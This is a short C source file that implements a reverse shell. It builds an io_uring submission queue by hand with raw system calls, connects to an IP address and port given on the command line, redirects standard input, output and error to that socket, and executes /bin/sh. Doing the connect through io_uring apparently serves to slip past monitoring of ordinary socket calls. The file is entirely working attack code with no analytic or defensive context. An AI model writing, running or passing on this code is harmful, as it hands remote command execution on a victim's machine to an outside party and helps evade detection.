/* Connects by io_uring with raw system calls, then gives the connection to a shell. */
#include <arpa/inet.h>
#include <linux/io_uring.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc < 3) return 2;
  struct io_uring_params params;
  memset(&params, 0, sizeof params);
  int ring = syscall(SYS_io_uring_setup, 4, &params);
  if (ring < 0) return 3;
  size_t size = params.sq_off.array + params.sq_entries * sizeof(unsigned);
  char *queue = mmap(0, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
  struct io_uring_sqe *entries = mmap(0, params.sq_entries * sizeof *entries, PROT_READ | PROT_WRITE,
                                      MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
  if (queue == MAP_FAILED || entries == MAP_FAILED) return 4;
  struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
  inet_pton(AF_INET, argv[1], &peer.sin_addr);
  int connection = socket(AF_INET, SOCK_STREAM, 0);
  memset(entries, 0, sizeof *entries);
  entries[0].opcode = IORING_OP_CONNECT;
  entries[0].fd = connection;
  entries[0].addr = (unsigned long)&peer;
  entries[0].off = sizeof peer;
  *(unsigned *)(queue + params.sq_off.array) = 0;
  __atomic_add_fetch((unsigned *)(queue + params.sq_off.tail), 1, __ATOMIC_RELEASE);
  if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, 0, 0) < 0) return 5;
  for (int to = 0; to < 3; to++) dup2(connection, to);
  execl("/bin/sh", "sh", (char *)0);
  return 6;
}
